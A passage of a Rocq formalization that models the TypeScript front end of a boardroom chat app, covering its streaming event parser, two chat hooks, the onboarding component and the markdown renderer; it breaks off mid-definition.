(** * ExecOS: the boardroom client and its event-stream protocol

    A shallow embedding of the TypeScript front end (the two generations of
    the [useChat] hook, the [Onboarding] component, the [App] shell and the
    markdown renderer of [AgentMessage]) together with a model of the
    orchestration run that the specification describes.

    JavaScript strings are sequences of UTF-16 code units; they are modelled
    as [list N].  Records of the source become Rocq records whose optional
    members are [option]s, [Record<string, string>] becomes a [gmap], and the
    calls a callback makes on React state setters, on [fetch] and on the
    callbacks it was handed become an explicit trace of effects. *)

From Stdlib Require Import NArith ZArith Ascii String List Lia.
From stdpp Require Import base option list gmap.
Import ListNotations.

Open Scope N_scope.

(** ** JavaScript strings *)

Abbreviation jsstring := (list N).

(** A string literal of the source, for literals within ASCII. *)
Definition js (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).

(** [s.startsWith(p)] *)
Fixpoint startsWith (p s : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | _ :: _, [] => false
  | a :: p', b :: s' => (a =? b) && startsWith p' s'
  end.

(** [s.slice(n)] for a non-negative [n]. *)
Definition slice (n : nat) (s : jsstring) : jsstring := drop n s.

(** The code units [String.prototype.trim] strips: WhiteSpace and
    LineTerminator of ECMA-262. *)
Definition is_trimmed_unit (c : N) : bool :=
  (c =? 9) || (c =? 10) || (c =? 11) || (c =? 12) || (c =? 13) || (c =? 32)
  || (c =? 160) || (c =? 5760) || ((8192 <=? c) && (c <=? 8202))
  || (c =? 8232) || (c =? 8233) || (c =? 8239) || (c =? 8287)
  || (c =? 12288) || (c =? 65279).

Fixpoint trimStart (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s' => if is_trimmed_unit c then trimStart s' else s
  end.

(** [s.trim()] *)
Definition trim (s : jsstring) : jsstring :=
  rev (trimStart (rev (trimStart s))).

(** Truthiness of a string: only the empty string is falsy. *)
Definition truthy (s : jsstring) : bool :=
  match s with [] => false | _ :: _ => true end.

(** Truthiness of a possibly undefined string member. *)
Definition truthy_opt (o : option jsstring) : bool :=
  match o with Some s => truthy s | None => false end.

(** [x || d] on a possibly undefined string. *)
Definition or_else (o : option jsstring) (d : jsstring) : jsstring :=
  match o with
  | Some s => if truthy s then s else d
  | None => d
  end.

(** [x || d] on a possibly undefined number. *)
Definition num_or (o : option Z) (d : Z) : Z :=
  match o with
  | Some n => if (n =? 0)%Z then d else n
  | None => d
  end.

(** ** Splitting a buffer into lines *)

Definition newline : N := 10.

(** [s.split('\n')]: never empty, the last segment is what follows the last
    newline. *)
Fixpoint split_nl (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: s' =>
      if c =? newline then [] :: split_nl s'
      else match split_nl s' with
           | [] => [[c]]
           | l :: ls => (c :: l) :: ls
           end
  end.

(** [const lines = buffer.split('\n'); buffer = lines.pop() || '';] gives the
    lines left in the array and the new buffer. *)
Definition pop_lines (buffer : jsstring) : list jsstring * jsstring :=
  let lines := split_nl buffer in (List.removelast lines, List.last lines []).

Definition complete_lines (s : jsstring) : list jsstring := fst (pop_lines s).
Definition pending (s : jsstring) : jsstring := snd (pop_lines s).

(** Joining the text that precedes a split with the first segment of the
    split: how [split] distributes over [++]. *)
Definition glue (r : jsstring) (ls : list jsstring) : list jsstring :=
  match ls with
  | [] => [r]
  | l :: ls' => (r ++ l) :: ls'
  end.

(** ** The read loop shared by the stream consumers

    [while (true) { read; if (done) break; buffer += decode(value);
    lines = buffer.split('\n'); buffer = lines.pop() || '';
    for (const line of lines) ... }].  A chunk is the text the streaming
    decoder returns for one [read]; [body] is what the [for] loop does with
    one line, as a trace of effects. *)
Section ReadLoop.
Context {E : Type}.
Variable body : jsstring -> list E.

Fixpoint read_loop (buffer : jsstring) (chunks : list jsstring) : list E :=
  match chunks with
  | [] => []
  | value :: chunks' =>
      let '(lines, buffer') := pop_lines (buffer ++ value) in
      flat_map body lines ++ read_loop buffer' chunks'
  end.
End ReadLoop.

(** ** Events on the wire *)

Record SubQueryInfo := {
  sq_id : jsstring;
  sq_focus : jsstring;
  sq_agents : list jsstring
}.

Record Question := {
  q_id : jsstring;
  q_question : jsstring;
  q_field : jsstring;
  q_placeholder : option jsstring;
  q_options : option (list jsstring);
  q_skip_label : option jsstring
}.

(** What [JSON.parse] hands to the consumers: an object whose members may
    each be missing.  It covers the members of [SSEEvent] as well as those
    the token-based hook reads from its untyped record. *)
Record SSEEvent := {
  ev_type : option jsstring;
  ev_content : option jsstring;
  ev_agent : option jsstring;
  ev_agent_name : option jsstring;
  ev_agent_emoji : option jsstring;
  ev_agent_color : option jsstring;
  ev_agents : option (list jsstring);
  ev_step : option Z;
  ev_total : option Z;
  ev_question : option Question;
  ev_intent : option jsstring;
  ev_complexity : option jsstring;
  ev_sub_queries : option (list SubQueryInfo);
  ev_reasoning : option jsstring;
  ev_memory_count : option Z
}.

(** [event.type === 'tag'] *)
Definition has_type (tag : string) (e : SSEEvent) : bool :=
  bool_decide (ev_type e = Some (js tag)).

(** An event that carries a tag and nothing else. *)
Definition bare_event (tag : string) : SSEEvent :=
  {| ev_type := Some (js tag); ev_content := None; ev_agent := None;
     ev_agent_name := None; ev_agent_emoji := None; ev_agent_color := None;
     ev_agents := None; ev_step := None; ev_total := None;
     ev_question := None; ev_intent := None; ev_complexity := None;
     ev_sub_queries := None; ev_reasoning := None; ev_memory_count := None |}.

(** A stand-in for [JSON.parse] that knows a handful of payloads, for
    running the consumers on concrete streams. *)
Definition toy_parse (payload : jsstring) : option SSEEvent :=
  if bool_decide (payload = js "{routing}") then Some (bare_event "routing")
  else if bool_decide (payload = js "{onboarding_complete}")
  then Some (bare_event "onboarding_complete")
  else None.

(** An [agent_response] event of agent [key] with text [text]. *)
Definition agent_event (key text : string) : SSEEvent :=
  {| ev_type := Some (js "agent_response"); ev_content := Some (js text);
     ev_agent := Some (js key); ev_agent_name := None; ev_agent_emoji := None;
     ev_agent_color := None; ev_agents := None; ev_step := None;
     ev_total := None; ev_question := None; ev_intent := None;
     ev_complexity := None; ev_sub_queries := None; ev_reasoning := None;
     ev_memory_count := None |}.

(** A question of the onboarding script, without options. *)
Definition goals_question : Question :=
  {| q_id := js "goals"; q_question := js "What are your goals?";
     q_field := js "goals"; q_placeholder := None; q_options := None;
     q_skip_label := None |}.

(** The eight tags of the specification's [ChatEvent] variant. *)
Definition ChatEvent_tags : list jsstring :=
  [js "orchestration"; js "routing"; js "agent_response"; js "synthesis";
   js "onboarding_question"; js "onboarding_complete"; js "done"; js "error"].

(** ** What [fetch] can answer *)

(** The body stream: the chunks its reads deliver, and whether the read
    after the last chunk reports the end of the stream or rejects. *)
Record Body := {
  body_chunks : list jsstring;
  body_read_rejects : bool
}.

Record Response := {
  res_ok : bool;
  res_session_header : option jsstring;   (* headers.get('X-Session-ID') *)
  res_body : option Body
}.

Inductive FetchResult :=
  | FetchRejects
  | FetchResolves (res : Response).

(** A response whose body delivers [chunks] and then ends. *)
Definition streamed (chunks : list jsstring) : FetchResult :=
  FetchResolves
    {| res_ok := true; res_session_header := None;
       res_body := Some {| body_chunks := chunks;
                           body_read_rejects := false |} |}.

(** ** The token-based hook: [frontend/src/hooks/useChat.ts] *)
Module TokenHook.

Inductive Role := user | assistant | routing | orchestration.

(** [ChatMessage] without its [id], a fresh random UUID that nothing in
    the hook reads back.  The casts [event.x as T] copy members that may be
    undefined, [content] included. *)
Record ChatMessage := {
  role : Role;
  content : option jsstring;
  agent : option jsstring;
  agent_name : option jsstring;
  agent_emoji : option jsstring;
  agent_color : option jsstring;
  isSynthesis : option bool;
  intent : option jsstring;
  complexity : option jsstring;
  sub_queries : option (list SubQueryInfo);
  reasoning : option jsstring
}.

Definition plain (r : Role) (c : option jsstring) : ChatMessage :=
  {| role := r; content := c; agent := None; agent_name := None;
     agent_emoji := None; agent_color := None; isSynthesis := None;
     intent := None; complexity := None; sub_queries := None;
     reasoning := None |}.

Record Request := {
  req_bearer : jsstring;
  req_message : jsstring;
  req_session_id : option jsstring
}.

Inductive Effect :=
  | AddMessage (m : ChatMessage)     (* setMessages(prev => [...prev, m]) *)
  | SetIsStreaming (b : bool)
  | SetSessionId (s : jsstring)
  | Fetch (r : Request)              (* fetch('/api/chat', ...) *)
  | OnEvent (e : SSEEvent).          (* onEvent?.(event) *)

Record HookState := {
  messages : list ChatMessage;
  isStreaming : bool;
  sessionId : option jsstring
}.

Definition apply (st : HookState) (e : Effect) : HookState :=
  match e with
  | AddMessage m =>
      {| messages := messages st ++ [m]; isStreaming := isStreaming st;
         sessionId := sessionId st |}
  | SetIsStreaming b =>
      {| messages := messages st; isStreaming := b;
         sessionId := sessionId st |}
  | SetSessionId s =>
      {| messages := messages st; isStreaming := isStreaming st;
         sessionId := Some s |}
  | Fetch _ | OnEvent _ => st
  end.

Definition run (st : HookState) (es : list Effect) : HookState :=
  fold_left apply es st.

Definition orchestration_message (e : SSEEvent) : ChatMessage :=
  {| role := orchestration; content := ev_content e; agent := None;
     agent_name := None; agent_emoji := None; agent_color := None;
     isSynthesis := None; intent := ev_intent e;
     complexity := ev_complexity e; sub_queries := ev_sub_queries e;
     reasoning := ev_reasoning e |}.

Definition agent_message (e : SSEEvent) : ChatMessage :=
  {| role := assistant; content := ev_content e; agent := ev_agent e;
     agent_name := ev_agent_name e; agent_emoji := ev_agent_emoji e;
     agent_color := ev_agent_color e; isSynthesis := None;
     intent := None; complexity := None; sub_queries := None;
     reasoning := None |}.

Definition synthesis_message (e : SSEEvent) : ChatMessage :=
  {| role := assistant; content := ev_content e; agent := None;
     agent_name := None; agent_emoji := None; agent_color := None;
     isSynthesis := Some true; intent := None; complexity := None;
     sub_queries := None; reasoning := None |}.

(** The [if]/[else if] chain on [event.type]. *)
Definition dispatch (e : SSEEvent) : list Effect :=
  if has_type "orchestration" e then [AddMessage (orchestration_message e)]
  else if has_type "routing" e then
    [AddMessage (plain routing (ev_content e))]
  else if has_type "agent_response" e then [AddMessage (agent_message e)]
  else if has_type "synthesis" e then [AddMessage (synthesis_message e)]
  else [].

Definition handle_event (e : SSEEvent) : list Effect :=
  OnEvent e :: dispatch e.

Definition error_connecting : jsstring :=
  js "Error connecting to the Boardroom. Please try again.".
Definition connection_error : jsstring :=
  js "Connection error. Please check your internet and try again.".

Section WithParser.
(** [JSON.parse]: [None] when it throws, which the [catch] around the
    line swallows; otherwise the members of the value it returns.  A value
    without members is the event without members; that holds for [null]
    too, which is handed to [onEvent] like any value before reading
    [event.type] of it throws into the same [catch], so that the chain is
    passed over as it is for an event of no known type. *)
Variable parse : jsstring -> option SSEEvent.

(** The body of [for (const line of lines)]. *)
Definition process_line (line : jsstring) : list Effect :=
  if startsWith (js "data: ") line then
    match parse (slice 6 line) with
    | Some e => handle_event e
    | None => []
    end
  else [].

(** [sendMessage(text)], called from a render in which the hook's state
    was [st] and the token was [token]. *)
Definition sendMessage (token : option jsstring) (st : HookState)
    (text : jsstring) (net : FetchResult) : list Effect :=
  if negb (truthy (trim text)) || isStreaming st || negb (truthy_opt token)
  then []
  else
    [AddMessage (plain user (Some text)); SetIsStreaming true;
     Fetch {| req_bearer := default [] token; req_message := text;
              req_session_id := sessionId st |}]
    ++ match net with
       | FetchRejects => [AddMessage (plain assistant (Some connection_error))]
       | FetchResolves res =>
           (match res_session_header res with
            | Some s => if truthy s then [SetSessionId s] else []
            | None => []
            end)
           ++ match res_ok res, res_body res with
              | true, Some b =>
                  read_loop process_line [] (body_chunks b)
                  ++ (if body_read_rejects b
                      then [AddMessage (plain assistant (Some connection_error))]
                      else [])
              | _, _ =>
                  [AddMessage (plain assistant (Some error_connecting))]
              end
       end
    ++ [SetIsStreaming false].
End WithParser.

End TokenHook.

(** ** The session-based hook: [useChat(sessionId, onEvent)] *)
Module SessionHook.

(** The union type [SSEEventType] the hook declares. *)
Inductive SSEEventType :=
  | routing | agent_reasoning | agent_response | synthesis_start | synthesis
  | onboarding_question | onboarding_complete | done | error.

Definition tag_name (t : SSEEventType) : jsstring :=
  match t with
  | routing => js "routing"
  | agent_reasoning => js "agent_reasoning"
  | agent_response => js "agent_response"
  | synthesis_start => js "synthesis_start"
  | synthesis => js "synthesis"
  | onboarding_question => js "onboarding_question"
  | onboarding_complete => js "onboarding_complete"
  | done => js "done"
  | error => js "error"
  end.

Definition all_SSEEventType : list SSEEventType :=
  [routing; agent_reasoning; agent_response; synthesis_start; synthesis;
   onboarding_question; onboarding_complete; done; error].

Inductive Role := user | assistant | role_routing | onboarding.

(** [ChatMessage] without [id] and [timestamp] (both read the clock) and
    without [events], which no branch of the hook reads back; [agents] is
    the member the routing message gains through its cast. *)
Record ChatMessage := {
  role : Role;
  content : jsstring;
  agentKey : option jsstring;
  agentName : option jsstring;
  agentEmoji : option jsstring;
  agentColor : option jsstring;
  isSynthesis : option bool;
  agents : option (list jsstring)
}.

Definition plain (r : Role) (c : jsstring) : ChatMessage :=
  {| role := r; content := c; agentKey := None; agentName := None;
     agentEmoji := None; agentColor := None; isSynthesis := None;
     agents := None |}.

Record Request := {
  req_session_header : jsstring;     (* 'X-Session-ID': sessionId *)
  req_message : jsstring
}.

Inductive Effect :=
  | AppendMessage (m : ChatMessage)  (* setMessages(prev => [...prev, m]) *)
  | UpsertAgent (m : ChatMessage)    (* the "update or add" updater *)
  | SetIsStreaming (b : bool)
  | SetAbortRef (armed : bool)       (* abortRef.current = ... *)
  | Fetch (r : Request)
  | OnEvent (e : SSEEvent)
  | ConsoleError.

Record HookState := {
  messages : list ChatMessage;
  isStreaming : bool;
  abortRef : bool
}.

(** [prev.findIndex(p)], with [None] for [-1]. *)
Fixpoint findIndex {A} (p : A -> bool) (l : list A) : option nat :=
  match l with
  | [] => None
  | x :: l' => if p x then Some 0%nat else S <$> findIndex p l'
  end.

(** [m.agentKey === event.agent && !m.isSynthesis], where [event.agent] is
    the key of the message being stored. *)
Definition same_agent (key : option jsstring) (m : ChatMessage) : bool :=
  bool_decide (agentKey m = key) && negb (default false (isSynthesis m)).

(** The updater handed to [setMessages] for an agent response. *)
Definition upsert (m : ChatMessage) (prev : list ChatMessage)
    : list ChatMessage :=
  match findIndex (same_agent (agentKey m)) prev with
  | Some existing => <[existing := m]> prev
  | None => prev ++ [m]
  end.

Definition apply (st : HookState) (e : Effect) : HookState :=
  match e with
  | AppendMessage m =>
      {| messages := messages st ++ [m]; isStreaming := isStreaming st;
         abortRef := abortRef st |}
  | UpsertAgent m =>
      {| messages := upsert m (messages st); isStreaming := isStreaming st;
         abortRef := abortRef st |}
  | SetIsStreaming b =>
      {| messages := messages st; isStreaming := b;
         abortRef := abortRef st |}
  | SetAbortRef a =>
      {| messages := messages st; isStreaming := isStreaming st;
         abortRef := a |}
  | Fetch _ | OnEvent _ | ConsoleError => st
  end.

Definition run (st : HookState) (es : list Effect) : HookState :=
  fold_left apply es st.

Definition routing_message (e : SSEEvent) : ChatMessage :=
  {| role := role_routing; content := or_else (ev_content e) [];
     agentKey := None; agentName := None; agentEmoji := None;
     agentColor := None; isSynthesis := None; agents := ev_agents e |}.

Definition agent_message (e : SSEEvent) : ChatMessage :=
  {| role := assistant; content := or_else (ev_content e) [];
     agentKey := ev_agent e; agentName := ev_agent_name e;
     agentEmoji := ev_agent_emoji e; agentColor := ev_agent_color e;
     isSynthesis := Some false; agents := None |}.

(** The emoji of the synthesis message, as UTF-16 code units. *)
Definition boardroom_emoji : jsstring := [55356; 57307; 65039].

Definition synthesis_message (e : SSEEvent) : ChatMessage :=
  {| role := assistant; content := or_else (ev_content e) [];
     agentKey := None; agentName := Some (js "Boardroom");
     agentEmoji := Some boardroom_emoji; agentColor := Some (js "#6366f1");
     isSynthesis := Some true; agents := None |}.

(** [event.content || event.question?.question || ''] *)
Definition onboarding_message (e : SSEEvent) : ChatMessage :=
  plain onboarding
    (or_else (ev_content e) (or_else (q_question <$> ev_question e) [])).

(** The [if]/[else if] chain on [event.type].  The locals
    [collectedEvents], [agentMessages], [synthesisContent] and [routingMsg]
    are written here and read nowhere but in the members left out of
    [ChatMessage]. *)
Definition dispatch (e : SSEEvent) : list Effect :=
  if has_type "routing" e && bool_decide (is_Some (ev_agents e)) then
    [AppendMessage (routing_message e)]
  else if has_type "agent_response" e && truthy_opt (ev_agent e) then
    [UpsertAgent (agent_message e)]
  else if has_type "synthesis" e then [AppendMessage (synthesis_message e)]
  else if has_type "onboarding_question" e
          || has_type "onboarding_complete" e then
    [AppendMessage (onboarding_message e)]
  else [].

Definition handle_event (e : SSEEvent) : list Effect :=
  OnEvent e :: dispatch e.

Section WithParser.
(** [JSON.parse], as for the token-based hook: [None] when it throws, and
    [null] as the event without members, which is handed to [onEvent]
    before reading [event.type] of it throws into the [catch]. *)
Variable parse : jsstring -> option SSEEvent.

Definition process_line (line : jsstring) : list Effect :=
  if startsWith (js "data: ") line then
    match parse (slice 6 line) with
    | Some e => handle_event e
    | None => []
    end
  else [].

(** [sendMessage(text)], called from a render in which the hook's state
    was [st].  Nothing in the hook aborts the controller, so a rejection
    is never an [AbortError] and is logged. *)
Definition sendMessage (sessionId : jsstring) (st : HookState)
    (text : jsstring) (net : FetchResult) : list Effect :=
  if isStreaming st then []
  else
    (if truthy (trim text) then [AppendMessage (plain user text)] else [])
    ++ [SetIsStreaming true; SetAbortRef true;
        Fetch {| req_session_header := sessionId; req_message := text |}]
    ++ match net with
       | FetchRejects => [ConsoleError]
       | FetchResolves res =>
           match res_body res with
           | Some b =>
               read_loop process_line [] (body_chunks b)
               ++ (if body_read_rejects b then [ConsoleError] else [])
           | None => [ConsoleError]   (* response.body!.getReader() throws *)
           end
       end
    ++ [SetIsStreaming false; SetAbortRef false].
End WithParser.

End SessionHook.

(** ** The onboarding component: [frontend/src/components/Onboarding.tsx] *)
Module Onboarding.

Record State := {
  currentQuestion : option Question;
  step : Z;
  total : Z;
  inputValue : jsstring;
  isLoading : bool;
  context : gmap jsstring jsstring;
  history : list (jsstring * jsstring);        (* { q, a } *)
  isAnimating : bool
}.

Definition initial : State :=
  {| currentQuestion := None; step := 0; total := 8; inputValue := [];
     isLoading := true; context := ∅; history := []; isAnimating := false |}.

Inductive Effect :=
  | SetCurrentQuestion (q : Question)
  | SetStep (n : Z)
  | SetTotal (n : Z)
  | SetInputValue (s : jsstring)
  | SetIsLoading (b : bool)
  | SetContext (field answer : jsstring)
      (* setContext(prev => ({ ...prev, [field]: answer })) *)
  | AppendHistory (q a : jsstring)
      (* setHistory(prev => [...prev, { q, a }]) *)
  | SetIsAnimating (b : bool)
  | Fetch (sessionId message : jsstring)       (* POST /api/chat *)
  | OnComplete (ctx : gmap jsstring jsstring). (* the onComplete prop *)

Definition apply (st : State) (e : Effect) : State :=
  match e with
  | SetCurrentQuestion q =>
      {| currentQuestion := Some q; step := step st; total := total st;
         inputValue := inputValue st; isLoading := isLoading st;
         context := context st; history := history st;
         isAnimating := isAnimating st |}
  | SetStep n =>
      {| currentQuestion := currentQuestion st; step := n; total := total st;
         inputValue := inputValue st; isLoading := isLoading st;
         context := context st; history := history st;
         isAnimating := isAnimating st |}
  | SetTotal n =>
      {| currentQuestion := currentQuestion st; step := step st; total := n;
         inputValue := inputValue st; isLoading := isLoading st;
         context := context st; history := history st;
         isAnimating := isAnimating st |}
  | SetInputValue s =>
      {| currentQuestion := currentQuestion st; step := step st;
         total := total st; inputValue := s; isLoading := isLoading st;
         context := context st; history := history st;
         isAnimating := isAnimating st |}
  | SetIsLoading b =>
      {| currentQuestion := currentQuestion st; step := step st;
         total := total st; inputValue := inputValue st; isLoading := b;
         context := context st; history := history st;
         isAnimating := isAnimating st |}
  | SetContext field answer =>
      {| currentQuestion := currentQuestion st; step := step st;
         total := total st; inputValue := inputValue st;
         isLoading := isLoading st;
         context := <[field := answer]> (context st);
         history := history st; isAnimating := isAnimating st |}
  | AppendHistory q a =>
      {| currentQuestion := currentQuestion st; step := step st;
         total := total st; inputValue := inputValue st;
         isLoading := isLoading st; context := context st;
         history := history st ++ [(q, a)];
         isAnimating := isAnimating st |}
  | SetIsAnimating b =>
      {| currentQuestion := currentQuestion st; step := step st;
         total := total st; inputValue := inputValue st;
         isLoading := isLoading st; context := context st;
         history := history st; isAnimating := b |}
  | Fetch _ _ | OnComplete _ => st
  end.

Definition run (st : State) (es : list Effect) : State :=
  fold_left apply es st.

(** The JSON answer of [/api/session/start]. *)
Record SessionStart := {
  ss_onboarding_complete : bool;
  ss_context : gmap jsstring jsstring;
  ss_question : option Question;
  ss_step : option Z;
  ss_total : option Z
}.

(** The effect that loads the first question; [None] is a rejected fetch
    or an answer that is not JSON, which the [catch] turns into
    [setIsLoading(false)]. *)
Definition load (answer : option SessionStart) : list Effect :=
  match answer with
  | None => [SetIsLoading false]
  | Some data =>
      if ss_onboarding_complete data then [OnComplete (ss_context data)]
      else match ss_question data with
           | Some q =>
               [SetCurrentQuestion q; SetStep (num_or (ss_step data) 0);
                SetTotal (num_or (ss_total data) 8); SetIsLoading false]
           | None => []
           end
  end.

Section WithParser.
Variable parse : jsstring -> option SSEEvent.

(** The body of the [for] loop: its effects, and whether it executed
    [return].  [ctx] is the [context] the enclosing [submit] closed
    over. *)
Definition on_line (ctx : gmap jsstring jsstring) (line : jsstring)
    : list Effect * bool :=
  if startsWith (js "data: ") line then
    match parse (slice 6 line) with
    | Some e =>
        match has_type "onboarding_question" e, ev_question e with
        | true, Some q =>
            ([SetCurrentQuestion q; SetStep (num_or (ev_step e) 0);
              SetTotal (num_or (ev_total e) 8)], false)
        | _, _ =>
            if has_type "onboarding_complete" e
            then ([OnComplete ctx], true)
            else ([], false)
        end
    | None => ([], false)
    end
  else ([], false).

Fixpoint for_lines (ctx : gmap jsstring jsstring) (lines : list jsstring)
    : list Effect * bool :=
  match lines with
  | [] => ([], false)
  | line :: lines' =>
      let '(es, returned) := on_line ctx line in
      if returned then (es, true)
      else let '(es', returned') := for_lines ctx lines' in
           (es ++ es', returned')
  end.

Fixpoint while_read (ctx : gmap jsstring jsstring) (buf : jsstring)
    (chunks : list jsstring) : list Effect :=
  match chunks with
  | [] => []
  | chunk :: chunks' =>
      let '(lines, buf') := pop_lines (buf ++ chunk) in
      let '(es, returned) := for_lines ctx lines in
      if returned then es else es ++ while_read ctx buf' chunks'
  end.

(** [submit(value)], a closure of the render in which the component's
    state was [st]: [currentQuestion], [isAnimating] and [context] are
    read from that render, the setters act on the state to come. *)
Definition submit (sessionId : jsstring) (st : State) (value : jsstring)
    (net : FetchResult) : list Effect :=
  match currentQuestion st with
  | None => []
  | Some q =>
      if isAnimating st then []
      else
        let answer := trim value in
        [SetIsAnimating true]
        ++ (if truthy answer
            then [SetContext (q_field q) answer;
                  AppendHistory (q_question q) answer]
            else [])
        ++ [SetInputValue [];
            Fetch sessionId (or_else (Some answer) (js "skip"))]
        ++ match net with
           | FetchRejects => []
           | FetchResolves res =>
               match res_body res with
               | Some b => while_read (context st) [] (body_chunks b)
               | None => []
               end
           end
        ++ [SetIsAnimating false]
  end.
End WithParser.

(** The component showing [q], with [ctx] collected so far. *)
Definition asking (q : Question) (ctx : gmap jsstring jsstring) : State :=
  {| currentQuestion := Some q; step := 7; total := 8; inputValue := [];
     isLoading := false; context := ctx; history := []; isAnimating := false |}.

(** Effects that leave [context] and [history] alone. *)
Definition keeps_answers (e : Effect) : bool :=
  match e with
  | SetContext _ _ | AppendHistory _ _ => false
  | _ => true
  end.

(** Effects that hand [ctx], and nothing else, to [onComplete]. *)
Definition completes_with (ctx : gmap jsstring jsstring) (e : Effect) : bool :=
  match e with
  | OnComplete c => bool_decide (c = ctx)
  | _ => true
  end.

End Onboarding.

(** ** The shell that chooses between onboarding and boardroom *)
Module App.

Inductive AppState := onboarding | boardroom.

(** [sessionId] is the state of [useSession]. *)
Record State := {
  sessionId : jsstring;
  appState : AppState;
  context : gmap jsstring jsstring
}.

Definition handleOnboardingComplete
    (completedContext : gmap jsstring jsstring) (st : State) : State :=
  {| sessionId := sessionId st; appState := boardroom;
     context := completedContext |}.

(** [clearSession()] stores the identifier [generateUUID()] returned, here
    [newId]. *)
Definition handleResetSession (newId : jsstring) (st : State) : State :=
  {| sessionId := newId; appState := onboarding; context := ∅ |}.

(** What the shell renders. *)
Inductive View :=
  | OnboardingView (sessionId : jsstring)
  | BoardroomView (sessionId : jsstring)
      (initialContext : gmap jsstring jsstring).

Definition render (st : State) : View :=
  match appState st with
  | onboarding => OnboardingView (sessionId st)
  | boardroom => BoardroomView (sessionId st) (context st)
  end.

(** What can reach the shell: the two callbacks it hands down, and a
    message sent from the boardroom, whose hook owns no shell state. *)
Inductive Action :=
  | OnboardingCompleted (ctx : gmap jsstring jsstring)
  | ResetSession (newId : jsstring)
  | ChatMessage (text : jsstring).

Definition step (st : State) (a : Action) : State :=
  match a with
  | OnboardingCompleted ctx => handleOnboardingComplete ctx st
  | ResetSession newId => handleResetSession newId st
  | ChatMessage _ => st
  end.

(** The shell reacting to what the onboarding component did. *)
Definition after_onboarding (st : State) (es : list Onboarding.Effect)
    : State :=
  fold_left
    (fun s e =>
       match e with
       | Onboarding.OnComplete ctx => handleOnboardingComplete ctx s
       | _ => s
       end) es st.

End App.

(** ** The markdown renderer of [AgentMessage.tsx] *)
Module Markdown.

(** LineTerminator: what [.] refuses and what [^] and [$] look for under
    the [m] flag. *)
Definition is_line_terminator (c : N) : bool :=
  (c =? 10) || (c =? 13) || (c =? 8232) || (c =? 8233).

(** One match of a pattern at the head of the input: the text matched,
    what the replacement expands to, and the input after the match. *)
Record Match := {
  matched : jsstring;
  replacement : jsstring;
  rest : jsstring
}.

(** A pattern tried at one position: it sees the code unit before the
    position ([None] at the start of the string) and the input from the
    position on. *)
Definition Pattern := option N -> jsstring -> option Match.

Definition last_unit (prev : option N) (s : jsstring) : option N :=
  match List.last (map Some s) None with
  | Some c => Some c
  | None => prev
  end.

(** [s.replace(/pattern/g, ...)] for a pattern that never matches the
    empty string: the leftmost match is replaced and the search resumes
    behind it; where nothing matches, one code unit is copied. *)
Fixpoint gsub (p : Pattern) (fuel : nat) (prev : option N) (s : jsstring)
    : jsstring :=
  match fuel with
  | O => s
  | S fuel' =>
      match p prev s with
      | Some m =>
          replacement m
          ++ gsub p fuel' (last_unit prev (matched m)) (rest m)
      | None =>
          match s with
          | [] => []
          | c :: s' => c :: gsub p fuel' (Some c) s'
          end
      end
  end.

Definition replace (p : Pattern) (s : jsstring) : jsstring :=
  gsub p (length s) None s.

(** [^] under the [m] flag. *)
Definition at_line_start (prev : option N) : bool :=
  match prev with
  | None => true
  | Some c => is_line_terminator c
  end.

(** Greedy [.*]: the longest run without a line terminator, and the
    input behind it. *)
Fixpoint dot_star (s : jsstring) : jsstring * jsstring :=
  match s with
  | [] => ([], [])
  | c :: s' =>
      if is_line_terminator c then ([], s)
      else let '(run, r) := dot_star s' in (c :: run, r)
  end.

(** Lazy [(.+?)] followed by the literal [close]: the shortest non-empty
    run without a line terminator behind which [close] stands. *)
Fixpoint dot_plus_lazy (close : jsstring) (s : jsstring)
    : option (jsstring * jsstring) :=
  match s with
  | [] => None
  | c :: s' =>
      if is_line_terminator c then None
      else if startsWith close s' then Some ([c], drop (length close) s')
      else match dot_plus_lazy close s' with
           | Some (run, r) => Some (c :: run, r)
           | None => None
           end
  end.

(** [/open(.+?)close/] replaced by [before$1after], where [open] and
    [close] are the same literal. *)
Definition delimited (delim before after : jsstring) : Pattern :=
  fun _ s =>
    if startsWith delim s then
      match dot_plus_lazy delim (drop (length delim) s) with
      | Some (run, r) =>
          Some {| matched := delim ++ run ++ delim;
                  replacement := before ++ run ++ after;
                  rest := r |}
      | None => None
      end
    else None.

(** [/^prefix(.+)$/m] replaced by [before$1after]. *)
Definition line_with_prefix (prefix before after : jsstring) : Pattern :=
  fun prev s =>
    if at_line_start prev && startsWith prefix s then
      match dot_star (drop (length prefix) s) with
      | ([], _) => None
      | (run, r) =>
          Some {| matched := prefix ++ run;
                  replacement := before ++ run ++ after;
                  rest := r |}
      end
    else None.

Definition is_digit (c : N) : bool := (48 <=? c) && (c <=? 57).

(** Greedy [\d*]. *)
Fixpoint digits (s : jsstring) : jsstring * jsstring :=
  match s with
  | [] => ([], [])
  | c :: s' =>
      if is_digit c then let '(ds, r) := digits s' in (c :: ds, r)
      else ([], s)
  end.

(** [/^\d+\. (.+)$/m] replaced by [<li>$1</li>]. *)
Definition numbered_item : Pattern :=
  fun prev s =>
    if at_line_start prev then
      match digits s with
      | ([], _) => None
      | (ds, r) =>
          if startsWith (js ". ") r then
            match dot_star (drop 2 r) with
            | ([], _) => None
            | (run, r') =>
                Some {| matched := ds ++ js ". " ++ run;
                        replacement := js "<li>" ++ run ++ js "</li>";
                        rest := r' |}
            end
          else None
      end
    else None.

(** [/^---$/m] replaced by [<hr/>]. *)
Definition rule : Pattern :=
  fun prev s =>
    if at_line_start prev && startsWith (js "---") s then
      match drop 3 s with
      | [] => Some {| matched := js "---"; replacement := js "<hr/>";
                      rest := [] |}
      | c :: r =>
          if is_line_terminator c
          then Some {| matched := js "---"; replacement := js "<hr/>";
                       rest := c :: r |}
          else None
      end
    else None.

(** [/\n\n/] replaced by [</p><p>]. *)
Definition blank_line : Pattern :=
  fun _ s =>
    if startsWith [10; 10] s then
      Some {| matched := [10; 10]; replacement := js "</p><p>";
              rest := drop 2 s |}
    else None.

(** Greedy [.*] followed by [</li>]: the run ends at the last [</li>] of
    the line; the result is the run with the [</li>], and what follows. *)
Fixpoint upto_last_close (s : jsstring) : option (jsstring * jsstring) :=
  match s with
  | [] => None
  | c :: s' =>
      match (if is_line_terminator c then None else upto_last_close s') with
      | Some (run, r) => Some (c :: run, r)
      | None =>
          if startsWith (js "</li>") s
          then Some (js "</li>", drop 5 s)
          else None
      end
  end.

(** Greedy [\n?]. *)
Definition optional_newline (s : jsstring) : jsstring * jsstring :=
  match s with
